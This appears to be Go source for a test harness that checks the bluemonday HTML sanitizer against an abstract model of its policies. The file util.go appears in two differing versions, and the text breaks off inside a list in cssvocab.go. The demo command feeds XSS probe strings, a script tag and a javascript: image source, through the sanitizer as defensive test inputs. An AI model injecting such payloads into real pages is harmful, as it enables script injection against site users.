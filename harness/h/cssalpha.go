package h

import (
	"encoding/base64"
	"net/url"
	"regexp"
	"strings"
	"unicode/utf8"
)

// CSSDecode decodes CSS escapes the way a browser does (CSS Syntax 3, 4.3.7):
// backslash + 1-6 hex digits + one optional whitespace -> code point (0,
// surrogates and > U+10FFFF -> U+FFFD); backslash + newline -> nothing;
// backslash + any other character -> that character; backslash at the end -> U+FFFD.
func CSSDecode(s string) string {
	if !strings.Contains(s, "\\") {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); {
		c := s[i]
		if c != '\\' {
			b.WriteByte(c)
			i++
			continue
		}
		i++
		if i >= len(s) {
			b.WriteRune(0xFFFD)
			break
		}
		j := i
		cp := 0
		for j < len(s) && j-i < 6 && ishex(s[j]) {
			cp = cp*16 + hexval(s[j])
			j++
		}
		if j > i {
			if cp == 0 || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF) {
				cp = 0xFFFD
			}
			b.WriteRune(rune(cp))
			i = j
			if i < len(s) {
				switch s[i] {
				case ' ', '\t', '\n', '\f':
					i++
				case '\r':
					i++
					if i < len(s) && s[i] == '\n' {
						i++
					}
				}
			}
			continue
		}
		if s[i] == '\n' || s[i] == '\f' {
			i++
			continue
		}
		if s[i] == '\r' {
			i++
			if i < len(s) && s[i] == '\n' {
				i++
			}
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		b.WriteRune(r)
		i += size
	}
	return b.String()
}

func ishex(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

func hexval(c byte) int {
	switch {
	case c >= '0' && c <= '9':
		return int(c - '0')
	case c >= 'a' && c <= 'f':
		return int(c-'a') + 10
	}
	return int(c-'A') + 10
}

var dataURIImagePrefixH = regexp.MustCompile(`^image/(gif|jpeg|png|svg\+xml|webp);base64,`)

// DataURIImagesPolicy is the harness' statement of the documented check of
// AllowDataURIImages: no query or fragment, an image media type from the
// list, valid standard base64 payload.
func DataURIImagesPolicy(u *url.URL) bool {
	if u.RawQuery != "" || u.Fragment != "" {
		return false
	}
	m := dataURIImagePrefixH.FindString(u.Opaque)
	if m == "" {
		return false
	}
	_, err := base64.StdEncoding.DecodeString(u.Opaque[len(m):])
	return err == nil
}
