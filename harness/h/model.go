package h

import (
	"fmt"
	"net/url"
	"reflect"
	"regexp"
	"runtime"
	"sort"
	"strings"

	bm "github.com/microcosm-cc/bluemonday"
	"github.com/microcosm-cc/bluemonday/css"
)

// Call is one builder call of a policy recipe.  Every field is always
// serialised so that the specification can read c.<field> on any call.
type Call struct {
	M       string   `json:"m"`
	Names   []string `json:"names"`
	Pat     string   `json:"pat"`
	Attrs   []string `json:"attrs"`
	Match   string   `json:"match"` // "" or "re:<src>"
	NoAttrs bool     `json:"noattrs"`
	Scope   string   `json:"scope"` // els pat glob none
	Els     []string `json:"els"`
	Props   []string `json:"props"`
	Handler string   `json:"handler"` // "" or "h:<func>"
	Enum    string   `json:"enum"`    // "" or "e:a|b"
	Re      string   `json:"re"`      // "" or "r:<src>"
	Schemes []string `json:"schemes"`
	Scheme  string   `json:"scheme"`
	Fid     string   `json:"fid"` // "f:<func>"
	B       bool     `json:"b"`
	Vals    []string `json:"vals"`
}

func (c *Call) norm() {
	if c.Names == nil {
		c.Names = []string{}
	}
	if c.Attrs == nil {
		c.Attrs = []string{}
	}
	if c.Els == nil {
		c.Els = []string{}
	}
	if c.Props == nil {
		c.Props = []string{}
	}
	if c.Schemes == nil {
		c.Schemes = []string{}
	}
	if c.Vals == nil {
		c.Vals = []string{}
	}
}

type Recipe []Call

// AP is the abstract policy (the harness' own reading of a recipe).
type AP struct {
	Initialized  bool                           `json:"initialized"`
	ElAttrs      map[string]map[string][]string `json:"elAttrs"`
	PatAttrs     map[string]map[string][]string `json:"patAttrs"`
	GlobalAttrs  map[string][]string            `json:"globalAttrs"`
	BareEl       []string                       `json:"bareEl"`
	BarePat      []string                       `json:"barePat"`
	Skip         []string                       `json:"skip"`
	ElStyles     map[string]map[string][]string `json:"elStyles"`
	PatStyles    map[string]map[string][]string `json:"patStyles"`
	GlobalStyles map[string][]string            `json:"globalStyles"`
	Schemes      map[string][]string            `json:"schemes"`
	SchemePats   []string                       `json:"schemePats"`
	Parseable    bool                           `json:"parseable"`
	Relative     bool                           `json:"relative"`
	NoFollow     bool                           `json:"nofollow"`
	NoFollowFQ   bool                           `json:"nofollowFQ"`
	NoReferrer   bool                           `json:"noreferrer"`
	NoReferrerFQ bool                           `json:"noreferrerFQ"`
	TargetBlank  bool                           `json:"targetBlank"`
	CrossOrigin  bool                           `json:"crossorigin"`
	AddSpaces    bool                           `json:"addSpaces"`
	Comments     bool                           `json:"comments"`
	DataAttrs    bool                           `json:"dataAttrs"`
	Unsafe       bool                           `json:"unsafe"`
	Rewriter     string                         `json:"rewriter"`
	SandboxOn    bool                           `json:"sandboxOn"`
	Sandbox      []string                       `json:"sandbox"`
}

func BlankAP() *AP {
	return &AP{
		ElAttrs: map[string]map[string][]string{}, PatAttrs: map[string]map[string][]string{},
		GlobalAttrs: map[string][]string{}, BareEl: []string{}, BarePat: []string{}, Skip: []string{},
		ElStyles: map[string]map[string][]string{}, PatStyles: map[string]map[string][]string{},
		GlobalStyles: map[string][]string{}, Schemes: map[string][]string{}, SchemePats: []string{},
		Sandbox: []string{},
	}
}

func (p *AP) Clone() *AP {
	var q AP
	mustUnJSON(JSON(p), &q)
	return &q
}

func addSet(s []string, xs ...string) []string {
	m := map[string]bool{}
	for _, x := range s {
		m[x] = true
	}
	for _, x := range xs {
		m[x] = true
	}
	out := make([]string, 0, len(m))
	for x := range m {
		out = append(out, x)
	}
	sort.Strings(out)
	return out
}

func delSet(s []string, xs ...string) []string {
	m := map[string]bool{}
	for _, x := range s {
		m[x] = true
	}
	for _, x := range xs {
		delete(m, x)
	}
	out := make([]string, 0, len(m))
	for x := range m {
		out = append(out, x)
	}
	sort.Strings(out)
	return out
}

func inSet(s []string, x string) bool {
	for _, y := range s {
		if y == x {
			return true
		}
	}
	return false
}

func lowerAll(ss []string) []string {
	out := make([]string, len(ss))
	for i, s := range ss {
		out[i] = strings.ToLower(s)
	}
	return out
}

func addRule(tbl map[string]map[string][]string, key, name, id string) {
	if tbl[key] == nil {
		tbl[key] = map[string][]string{}
	}
	tbl[key][name] = addSet(tbl[key][name], id)
}

func ensureKey(tbl map[string]map[string][]string, key string) {
	if tbl[key] == nil {
		tbl[key] = map[string][]string{}
	}
}

// FuncName is the runtime symbol name of a func value.
func FuncName(f interface{}) string {
	v := reflect.ValueOf(f)
	if !v.IsValid() || v.IsNil() {
		return ""
	}
	return runtime.FuncForPC(v.Pointer()).Name()
}

func DefHandlerID(prop string) string {
	if CSSProps != nil && !CSSProps[strings.ToLower(prop)] {
		return "h:" + FuncName(css.BaseHandler) // no default handler: the handler that rejects everything
	}
	return "h:" + FuncName(css.GetDefaultHandler(prop))
}

// Vocab is spec/vocab.json: the shipped matcher sources and default sets.
type VocabT struct {
	DefaultBare       []string          `json:"defaultBare"`
	DefaultSkip       []string          `json:"defaultSkip"`
	Re                map[string]string `json:"re"`
	DataURIImagesFunc string            `json:"dataURIImagesFunc"`
	SandboxValues     []string          `json:"sandboxValues"`
}

var Vocab VocabT
var UGCVocab *AP

func aa(attrs []string, match string, els ...string) Call {
	c := Call{M: "AllowAttrs", Attrs: attrs, Match: match, Els: els, Scope: "els"}
	if len(els) == 0 {
		c.Scope = "glob"
	}
	c.norm()
	return c
}

// Apply is the harness' own statement of what a builder call means
// (mirrors BM_Policy.tla).
func (p *AP) Apply(c Call) {
	c.norm()
	re := Vocab.Re
	seq := func(cs ...Call) {
		for _, x := range cs {
			p.Apply(x)
		}
	}
	switch c.M {
	case "NewPolicy", "StrictPolicy":
		*p = *BlankAP()
		p.Initialized = true
		p.BareEl = addSet(nil, Vocab.DefaultBare...)
		p.Skip = addSet(nil, Vocab.DefaultSkip...)
	case "UGCPolicy":
		*p = *UGCVocab.Clone()
	case "ZeroValue":
		*p = *BlankAP()
	case "LazyInit":
		p.Initialized = true
	case "AllowAttrs":
		p.Initialized = true
		id := c.Match
		if id == "" {
			id = "ANY"
		}
		attrs := lowerAll(c.Attrs)
		switch c.Scope {
		case "els":
			for _, el := range lowerAll(c.Els) {
				for _, a := range attrs {
					addRule(p.ElAttrs, el, a, id)
				}
				if c.NoAttrs {
					p.BareEl = addSet(p.BareEl, el)
					ensureKey(p.ElAttrs, el)
				}
			}
		case "pat":
			for _, a := range attrs {
				addRule(p.PatAttrs, c.Pat, a, id)
			}
			if c.NoAttrs {
				p.BarePat = addSet(p.BarePat, c.Pat)
				ensureKey(p.PatAttrs, c.Pat)
			}
		case "glob":
			for _, a := range attrs {
				p.GlobalAttrs[a] = addSet(p.GlobalAttrs[a], id)
			}
		}
	case "AllowStyles":
		p.Initialized = true
		sid := func(prop string) string {
			switch {
			case c.Handler != "":
				return c.Handler
			case c.Enum != "":
				return c.Enum
			case c.Re != "":
				return c.Re
			}
			return DefHandlerID(prop)
		}
		props := lowerAll(c.Props)
		switch c.Scope {
		case "els":
			for _, el := range lowerAll(c.Els) {
				for _, pr := range props {
					addRule(p.ElStyles, el, pr, sid(pr))
				}
			}
		case "pat":
			for _, pr := range props {
				addRule(p.PatStyles, c.Pat, pr, sid(pr))
			}
		case "glob":
			for _, pr := range props {
				p.GlobalStyles[pr] = addSet(p.GlobalStyles[pr], sid(pr))
			}
		}
	case "AllowElements":
		p.Initialized = true
		for _, el := range lowerAll(c.Names) {
			ensureKey(p.ElAttrs, el)
		}
	case "AllowElementsMatching":
		p.Initialized = true
		ensureKey(p.PatAttrs, c.Pat)
	case "AllowURLSchemes":
		p.Initialized = true
		p.Parseable = true
		for _, s := range lowerAll(c.Schemes) {
			p.Schemes[s] = []string{}
		}
	case "AllowURLSchemeWithCustomPolicy":
		p.Initialized = true
		p.Parseable = true
		s := strings.ToLower(c.Scheme)
		p.Schemes[s] = addSet(p.Schemes[s], c.Fid)
	case "AllowURLSchemesMatching":
		p.Initialized = true
		p.SchemePats = addSet(p.SchemePats, c.Pat)
	case "RewriteSrc":
		p.Rewriter = c.Fid
	case "RequireNoFollowOnLinks":
		p.NoFollow, p.Parseable = c.B, true
	case "RequireNoFollowOnFullyQualifiedLinks":
		p.NoFollowFQ, p.Parseable = c.B, true
	case "RequireNoReferrerOnLinks":
		p.NoReferrer, p.Parseable = c.B, true
	case "RequireNoReferrerOnFullyQualifiedLinks":
		p.NoReferrerFQ, p.Parseable = c.B, true
	case "AddTargetBlankToFullyQualifiedLinks":
		p.TargetBlank, p.Parseable = c.B, true
	case "RequireCrossOriginAnonymous":
		p.CrossOrigin = c.B
	case "RequireParseableURLs":
		p.Parseable = c.B
	case "AllowRelativeURLs":
		p.Parseable, p.Relative = true, c.B
	case "RequireSandboxOnIFrame":
		p.SandboxOn = true
		p.Sandbox = addSet(nil, c.Vals...)
	case "AllowIFrames":
		seq(aa([]string{"sandbox"}, "", "iframe"))
		p.SandboxOn = true
		p.Sandbox = addSet(nil, c.Vals...)
	case "AddSpaceWhenStrippingTag":
		p.AddSpaces = c.B
	case "SkipElementsContent":
		p.Initialized = true
		p.Skip = addSet(p.Skip, lowerAll(c.Names)...)
	case "AllowElementsContent":
		p.Initialized = true
		p.Skip = delSet(p.Skip, lowerAll(c.Names)...)
	case "AllowDataAttributes":
		p.DataAttrs = true
	case "AllowComments":
		p.Comments = true
	case "AllowUnsafe":
		p.Initialized = true
		p.Unsafe = c.B
	case "AllowStandardURLs":
		p.Parseable, p.Relative = true, true
		seq(Call{M: "AllowURLSchemes", Schemes: []string{"mailto", "http", "https"}})
		p.NoFollow = true
	case "AllowStandardAttributes":
		seq(aa([]string{"dir"}, re["Direction"]), aa([]string{"lang"}, re["lang"]),
			aa([]string{"id"}, re["id"]), aa([]string{"title"}, re["Paragraph"]))
	case "AllowStyling":
		seq(aa([]string{"class"}, re["SpaceSeparatedTokens"]))
	case "AllowImages":
		seq(aa([]string{"align"}, re["ImageAlign"], "img"), aa([]string{"alt"}, re["Paragraph"], "img"),
			aa([]string{"height", "width"}, re["NumberOrPercent"], "img"),
			Call{M: "AllowStandardURLs"}, aa([]string{"src"}, "", "img"))
	case "AllowDataURIImages":
		p.Parseable = true
		seq(Call{M: "AllowURLSchemeWithCustomPolicy", Scheme: "data", Fid: Vocab.DataURIImagesFunc})
	case "AllowLists":
		seq(aa([]string{"type"}, re["ListType"], "ol", "ul"), aa([]string{"type"}, re["ListType"], "li"),
			aa([]string{"value"}, re["Integer"], "li"), Call{M: "AllowElements", Names: []string{"dl", "dt", "dd"}})
	case "AllowTables":
		seq(aa([]string{"height", "width"}, re["NumberOrPercent"], "table"),
			aa([]string{"summary"}, re["Paragraph"], "table"),
			Call{M: "AllowElements", Names: []string{"caption"}},
			aa([]string{"align"}, re["CellAlign"], "col", "colgroup"),
			aa([]string{"height", "width"}, re["NumberOrPercent"], "col", "colgroup"),
			aa([]string{"span"}, re["Integer"], "colgroup", "col"),
			aa([]string{"valign"}, re["CellVerticalAlign"], "col", "colgroup"),
			aa([]string{"align"}, re["CellAlign"], "thead", "tr"),
			aa([]string{"valign"}, re["CellVerticalAlign"], "thead", "tr"),
			aa([]string{"abbr"}, re["Paragraph"], "td", "th"),
			aa([]string{"align"}, re["CellAlign"], "td", "th"),
			aa([]string{"colspan", "rowspan"}, re["Integer"], "td", "th"),
			aa([]string{"headers"}, re["SpaceSeparatedTokens"], "td", "th"),
			aa([]string{"height", "width"}, re["NumberOrPercent"], "td", "th"),
			aa([]string{"scope"}, re["scope"], "td", "th"),
			aa([]string{"valign"}, re["CellVerticalAlign"], "td", "th"),
			aa([]string{"nowrap"}, re["nowrap"], "td", "th"),
			aa([]string{"align"}, re["CellAlign"], "tbody", "tfoot"),
			aa([]string{"valign"}, re["CellVerticalAlign"], "tbody", "tfoot"))
	default:
		panic("model: unknown builder call " + c.M)
	}
}

func BuildAP(r Recipe) *AP {
	p := BlankAP()
	for _, c := range r {
		p.Apply(c)
	}
	return p
}

// ---------------------------------------------------------------------------
// the harness' own rule evaluation (what the oracles use)

var reCache = map[string]*regexp.Regexp{}

// ReOf compiles the harness' own copy of a regexp from its source.
func ReOf(src string) *regexp.Regexp {
	if r, ok := reCache[src]; ok {
		return r
	}
	r := regexp.MustCompile(src)
	reCache[src] = r
	return r
}

func (p *AP) Explicit(n string) bool { _, ok := p.ElAttrs[n]; return ok }

func (p *AP) PatsFor(n string) []string {
	out := []string{}
	for pat := range p.PatAttrs {
		if ReOf(pat).MatchString(n) {
			out = append(out, pat)
		}
	}
	sort.Strings(out)
	return out
}

func (p *AP) Known(n string) bool { return p.Explicit(n) || len(p.PatsFor(n)) > 0 }

func (p *AP) BareOK(n string) bool {
	if inSet(p.BareEl, n) {
		return true
	}
	for _, pat := range p.BarePat {
		if ReOf(pat).MatchString(n) {
			return true
		}
	}
	return false
}

// AttrRuleIDs returns the matcher ids that cover attribute k on element n
// (element or pattern rules, then global rules).
func (p *AP) AttrRuleIDs(n, k string) []string {
	ids := []string{}
	if p.Explicit(n) {
		ids = append(ids, p.ElAttrs[n][k]...)
	} else {
		for _, pat := range p.PatsFor(n) {
			ids = append(ids, p.PatAttrs[pat][k]...)
		}
	}
	ids = append(ids, p.GlobalAttrs[k]...)
	return addSet(nil, ids...)
}

// MatchAttr is the verdict of attribute matcher id on value v.
func MatchAttr(id, v string) bool {
	if id == "ANY" {
		return true
	}
	if strings.HasPrefix(id, "re:") {
		return ReOf(id[3:]).MatchString(v)
	}
	panic("bad attr matcher id " + id)
}

// ---------------------------------------------------------------------------
// named callbacks the harness installs (identified by symbol name)

func URLPolExampleHost(u *url.URL) bool { return u.Host == "example.org" || u.Host == "example.com" }
func URLPolNoQuery(u *url.URL) bool     { return u.RawQuery == "" }
func URLPolNever(u *url.URL) bool       { return false }
func URLPolAlways(u *url.URL) bool      { return true }

func RewriteProxy(u *url.URL) {
	q := url.Values{}
	q.Set("u", u.String())
	u.Scheme, u.Host, u.Path, u.RawQuery, u.Opaque, u.User, u.Fragment, u.RawPath, u.RawFragment =
		"https", "proxy.example", "/p", q.Encode(), "", nil, "", "", ""
}
func RewriteNoop(u *url.URL) {}

func StyleHNoParen(v string) bool { return !strings.ContainsAny(v, "()\\<>:") }
func StyleHShort(v string) bool   { return len(v) <= 8 && !strings.ContainsAny(v, "()\\<>:") }
func StyleHNever(v string) bool   { return false }

var URLPols = map[string]func(*url.URL) bool{}
var Rewriters = map[string]func(*url.URL){}
var StyleHandlers = map[string]func(string) bool{}

func init() {
	for _, f := range []func(*url.URL) bool{URLPolExampleHost, URLPolNoQuery, URLPolNever, URLPolAlways} {
		URLPols["f:"+FuncName(f)] = f
	}
	for _, f := range []func(*url.URL){RewriteProxy, RewriteNoop} {
		Rewriters["f:"+FuncName(f)] = f
	}
	for _, f := range []func(string) bool{StyleHNoParen, StyleHShort, StyleHNever} {
		StyleHandlers["h:"+FuncName(f)] = f
	}
}

// StyleMatcher returns the function behind a style matcher id.
func StyleMatcher(id string) func(string) bool {
	switch {
	case strings.HasPrefix(id, "h:"):
		if f, ok := StyleHandlers[id]; ok {
			return f
		}
		// a default handler of package css, by name
		for _, prop := range css.VerifDefaultHandlerNames() {
			if DefHandlerID(prop) == id {
				return css.GetDefaultHandler(prop)
			}
		}
		if id == "h:"+FuncName(css.BaseHandler) {
			return css.BaseHandler
		}
		panic("unknown style handler " + id)
	case strings.HasPrefix(id, "e:"):
		vals := strings.Split(id[2:], "|")
		return func(v string) bool {
			for _, x := range vals {
				if strings.EqualFold(x, v) {
					return true
				}
			}
			return false
		}
	case strings.HasPrefix(id, "r:"):
		r := ReOf(id[2:])
		return r.MatchString
	case id == "none:":
		return func(string) bool { return false }
	}
	panic("bad style matcher id " + id)
}

var sandboxConst = map[string]bm.SandboxValue{
	"allow-downloads":                         bm.SandboxAllowDownloads,
	"allow-downloads-without-user-activation": bm.SandboxAllowDownloadsWithoutUserActivation,
	"allow-forms":                             bm.SandboxAllowForms,
	"allow-modals":                            bm.SandboxAllowModals,
	"allow-orientation-lock":                  bm.SandboxAllowOrientationLock,
	"allow-pointer-lock":                      bm.SandboxAllowPointerLock,
	"allow-popups":                            bm.SandboxAllowPopups,
	"allow-popups-to-escape-sandbox":          bm.SandboxAllowPopupsToEscapeSandbox,
	"allow-presentation":                      bm.SandboxAllowPresentation,
	"allow-same-origin":                       bm.SandboxAllowSameOrigin,
	"allow-scripts":                           bm.SandboxAllowScripts,
	"allow-storage-access-by-user-activation": bm.SandboxAllowStorageAccessByUserActivation,
	"allow-top-navigation":                    bm.SandboxAllowTopNavigation,
	"allow-top-navigation-by-user-activation": bm.SandboxAllowTopNavigationByUserActivation,
}

// SandboxNames lists the fourteen sandbox values.
func SandboxNames() []string {
	out := []string{}
	for k := range sandboxConst {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Real applies one builder call to a real policy (gamma for policies).
// matchers: each distinct regexp source is compiled once per Builder so that
// pointer-keyed tables see one key per source, as a user holding one
// *regexp.Regexp would produce; Fresh=true compiles a new one per call.
type Builder struct {
	P     *bm.Policy
	Fresh bool
	res   map[string]*regexp.Regexp
}

func (b *Builder) re(src string) *regexp.Regexp {
	if b.Fresh {
		return regexp.MustCompile(src)
	}
	if b.res == nil {
		b.res = map[string]*regexp.Regexp{}
	}
	if r, ok := b.res[src]; ok {
		return r
	}
	r := regexp.MustCompile(src)
	b.res[src] = r
	return r
}

func sandboxVals(vals []string) []bm.SandboxValue {
	out := []bm.SandboxValue{}
	for _, v := range vals {
		out = append(out, sandboxConst[v])
	}
	return out
}

func (b *Builder) Apply(c Call) {
	c.norm()
	switch c.M {
	case "NewPolicy":
		b.P = bm.NewPolicy()
	case "StrictPolicy":
		b.P = bm.StrictPolicy()
	case "UGCPolicy":
		b.P = bm.UGCPolicy()
	case "ZeroValue":
		b.P = &bm.Policy{}
	case "AllowAttrs":
		var ab interface {
			OnElements(...string) *bm.Policy
			OnElementsMatching(*regexp.Regexp) *bm.Policy
			Globally() *bm.Policy
		}
		if len(c.Attrs) == 0 && c.NoAttrs {
			ab = b.P.AllowNoAttrs()
			if c.Match != "" {
				ab = b.P.AllowNoAttrs().Matching(b.re(c.Match[3:]))
			}
		} else {
			x := b.P.AllowAttrs(c.Attrs...)
			if c.Match != "" {
				x = x.Matching(b.re(c.Match[3:]))
			}
			if c.NoAttrs {
				x = x.AllowNoAttrs()
			}
			ab = x
		}
		switch c.Scope {
		case "els":
			ab.OnElements(c.Els...)
		case "pat":
			ab.OnElementsMatching(b.re(c.Pat))
		case "glob":
			ab.Globally()
		}
	case "AllowStyles":
		sb := b.P.AllowStyles(c.Props...)
		if c.Re != "" {
			sb = sb.Matching(b.re(c.Re[2:]))
		}
		if c.Enum != "" {
			sb = sb.MatchingEnum(strings.Split(c.Enum[2:], "|")...)
		}
		if c.Handler != "" {
			sb = sb.MatchingHandler(StyleHandlers[c.Handler])
		}
		switch c.Scope {
		case "els":
			sb.OnElements(c.Els...)
		case "pat":
			sb.OnElementsMatching(b.re(c.Pat))
		case "glob":
			sb.Globally()
		}
	case "AllowElements":
		b.P.AllowElements(c.Names...)
	case "AllowElementsMatching":
		b.P.AllowElementsMatching(b.re(c.Pat))
	case "AllowURLSchemes":
		b.P.AllowURLSchemes(c.Schemes...)
	case "AllowURLSchemeWithCustomPolicy":
		f, ok := URLPols[c.Fid]
		if !ok {
			panic("unknown url policy " + c.Fid)
		}
		b.P.AllowURLSchemeWithCustomPolicy(c.Scheme, f)
	case "AllowURLSchemesMatching":
		b.P.AllowURLSchemesMatching(b.re(c.Pat))
	case "RewriteSrc":
		b.P.RewriteSrc(Rewriters[c.Fid])
	case "RequireNoFollowOnLinks":
		b.P.RequireNoFollowOnLinks(c.B)
	case "RequireNoFollowOnFullyQualifiedLinks":
		b.P.RequireNoFollowOnFullyQualifiedLinks(c.B)
	case "RequireNoReferrerOnLinks":
		b.P.RequireNoReferrerOnLinks(c.B)
	case "RequireNoReferrerOnFullyQualifiedLinks":
		b.P.RequireNoReferrerOnFullyQualifiedLinks(c.B)
	case "AddTargetBlankToFullyQualifiedLinks":
		b.P.AddTargetBlankToFullyQualifiedLinks(c.B)
	case "RequireCrossOriginAnonymous":
		b.P.RequireCrossOriginAnonymous(c.B)
	case "RequireParseableURLs":
		b.P.RequireParseableURLs(c.B)
	case "AllowRelativeURLs":
		b.P.AllowRelativeURLs(c.B)
	case "RequireSandboxOnIFrame":
		b.P.RequireSandboxOnIFrame(sandboxVals(c.Vals)...)
	case "AllowIFrames":
		b.P.AllowIFrames(sandboxVals(c.Vals)...)
	case "AddSpaceWhenStrippingTag":
		b.P.AddSpaceWhenStrippingTag(c.B)
	case "SkipElementsContent":
		b.P.SkipElementsContent(c.Names...)
	case "AllowElementsContent":
		b.P.AllowElementsContent(c.Names...)
	case "AllowDataAttributes":
		b.P.AllowDataAttributes()
	case "AllowComments":
		b.P.AllowComments()
	case "AllowUnsafe":
		b.P.AllowUnsafe(c.B)
	case "AllowStandardURLs":
		b.P.AllowStandardURLs()
	case "AllowStandardAttributes":
		b.P.AllowStandardAttributes()
	case "AllowStyling":
		b.P.AllowStyling()
	case "AllowImages":
		b.P.AllowImages()
	case "AllowDataURIImages":
		b.P.AllowDataURIImages()
	case "AllowLists":
		b.P.AllowLists()
	case "AllowTables":
		b.P.AllowTables()
	default:
		panic("gamma: unknown builder call " + c.M)
	}
}

// BuildReal builds the real policy of a recipe.
func BuildReal(r Recipe) *bm.Policy {
	b := &Builder{}
	for _, c := range r {
		b.Apply(c)
	}
	return b.P
}

// SnapshotAP converts the real policy's snapshot into the abstract form.
func SnapshotAP(p *bm.Policy) *AP {
	var q AP
	mustUnJSON(JSON(bm.VerifSnapshot(p)), &q)
	if q.Rewriter != "" {
		q.Rewriter = "f:" + q.Rewriter
	}
	return &q
}

// APDiff lists (concisely) the leaf paths at which two abstract policies differ.
func APDiff(a, b *AP) []string {
	var ma, mb interface{}
	mustUnJSON(JSON(a), &ma)
	mustUnJSON(JSON(b), &mb)
	out := []string{}
	var walk func(path string, x, y interface{})
	walk = func(path string, x, y interface{}) {
		mx, okx := x.(map[string]interface{})
		my, oky := y.(map[string]interface{})
		if okx && oky {
			for k := range mx {
				if _, ok := my[k]; !ok {
					out = append(out, path+"/"+k+": only in first")
				} else {
					walk(path+"/"+k, mx[k], my[k])
				}
			}
			for k := range my {
				if _, ok := mx[k]; !ok {
					out = append(out, path+"/"+k+": only in second")
				}
			}
			return
		}
		if !reflect.DeepEqual(x, y) {
			sx, sy := string(JSON(x)), string(JSON(y))
			if len(sx) > 120 {
				sx = sx[:120] + "..."
			}
			if len(sy) > 120 {
				sy = sy[:120] + "..."
			}
			out = append(out, fmt.Sprintf("%s: %s vs %s", path, sx, sy))
		}
	}
	walk("", ma, mb)
	sort.Strings(out)
	return out
}
