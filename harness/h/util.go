package h

import (
	"encoding/json"
	"os"
)

func mustUnJSON(b []byte, v interface{}) {
	if err := json.Unmarshal(b, v); err != nil {
		panic(err)
	}
}

// LoadJSONFile reads a JSON file into v.
func LoadJSONFile(path string, v interface{}) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return json.Unmarshal(b, v)
}

// SpecDir is where vocab.json / ugc_vocabulary.json live.
func SpecDir() string {
	if d := os.Getenv("VERIF_SPEC"); d != "" {
		return d
	}
	return "/verif/spec"
}

// LoadVocab loads the hand-written vocabulary files.
func LoadVocab() error {
	if err := LoadJSONFile(SpecDir()+"/vocab.json", &Vocab); err != nil {
		return err
	}
	UGCVocab = BlankAP()
	return LoadJSONFile(SpecDir()+"/ugc_vocabulary.json", UGCVocab)
}
