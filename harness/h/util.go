package h

import (
	"encoding/json"
	"os"
)

func mustUnJSON(b []byte, v interface{}) {
	if err := json.Unmarshal(b, v); err != nil {
		panic(err)
	}
}

// LoadJSONFile reads a JSON file into v.
func LoadJSONFile(path string, v interface{}) error {
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return json.Unmarshal(b, v)
}

// SpecDir is where vocab.json / ugc_vocabulary.json live.
func SpecDir() string {
	if d := os.Getenv("VERIF_SPEC"); d != "" {
		return d
	}
	return "/verif/spec"
}

// LoadVocab loads the hand-written vocabulary files.
func LoadVocab() error {
	if err := LoadJSONFile(SpecDir()+"/vocab.json", &Vocab); err != nil {
		return err
	}
	UGCVocab = BlankAP()
	if err := LoadJSONFile(SpecDir()+"/ugc_vocabulary.json", UGCVocab); err != nil {
		return err
	}
	// the committed list of CSS properties that have a default handler (keys of css_vocabulary.json)
	var cv map[string]json.RawMessage
	if err := LoadJSONFile(SpecDir()+"/css_vocabulary.json", &cv); err == nil {
		CSSProps = map[string]bool{}
		for k := range cv {
			CSSProps[k] = true
		}
	}
	return nil
}

// CSSProps: the properties that have a default handler according to the committed vocabulary (independent of the code under
// test): a property outside it has none, whatever GetDefaultHandler returns.
var CSSProps map[string]bool
