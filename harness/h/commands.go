package h

import (
	"fmt"
	"os"

	bm "github.com/microcosm-cc/bluemonday"
)

// Commands maps subcommand names to implementations; exit code returned.
var Commands = map[string]func(args []string) int{
	"dumpsnap": cmdDumpSnap,
}

func cmdDumpSnap(args []string) int {
	var p *bm.Policy
	switch {
	case len(args) > 0 && args[0] == "new":
		p = bm.NewPolicy()
	default:
		p = bm.UGCPolicy()
	}
	fmt.Println(string(JSON(SnapshotAP(p))))
	return 0
}

func init() {
	Commands["demo"] = cmdDemo
}

// demo <trace.ndjson> <facts.json>: a tiny recorded session, for smoke tests.
func cmdDemo(args []string) int {
	tf, _ := os.Create(args[0])
	defer tf.Close()
	tw := NewTraceWriter(tf)
	s := tw.BuildSession(Recipe{{M: "UGCPolicy"}, {M: "AllowElementsMatching", Pat: "^custom-"}, {M: "AllowComments"}})
	for _, in := range []string{
		`<p>Hello <b>world</b><script>alert(1)</script><a href="http://x.com/?a=1">l</a><a>no</a></p>`,
		`<object><custom-x class=k></custom-x>t</object><!-- c --><img src="javascript:alert(1)">`,
		`<a><img></a><frame src=x>after`,
	} {
		cr := tw.Sanitize(s, []byte(in))
		fmt.Printf("%q -> %q\n", in, cr.Output)
	}
	tw.Flush()
	os.WriteFile(args[1], JSON(tw.Facts), 0o644)
	fmt.Println("build diffs:", s.BuildDiffs)
	return 0
}
