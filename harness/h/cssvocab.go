package h

import (
	"fmt"
	"os"
	"regexp"
	"sort"
	"strings"

	"github.com/microcosm-cc/bluemonday/css"
)

// cssvocab: produce spec/css_vocabulary.json — for every property with a default handler the
// candidate atoms that handler accepts as a whole value.  The candidates are the lower-case string
// literals of css/handlers.go (the handlers' own keyword lists) plus one representative of every
// numeric / functional notation.  The file is an input to value GENERATION only (what to splice
// hostile fragments into); verdicts never depend on it.
var cssSynthAtoms = []string{"0", "1", "2", "10", "100", "0.5", "1.5", "-1", "1px", "10px", "-2px", "1.5em", "2rem", "50%", "100%", "1cm", "12pt", "90deg",
	"1s", "100ms", "0.3s", "#fff", "#ffffff", "#ffffffff", "rgb(1,2,3)", "rgb(10%,20%,30%)", "rgba(1,2,3,0.5)", "hsl(120,50%,50%)", "hsla(120,50%,50%,0.3)",
	"url(http://e.com/a.png)", "url('https://e.com/a.png')", `url("http://e.com/a")`, "'quoted'", `"quoted"`, "arial", "'times new roman'", "sans-serif",
	"cubic-bezier(0,0,1,1)", "cubic-bezier(0.1,0.7,1.0,0.1)", "steps(2,start)", "rect(1px,2px,3px,4px)", "translate(1px)", "scale(2)", "rotate(90)", "rotatex(90)",
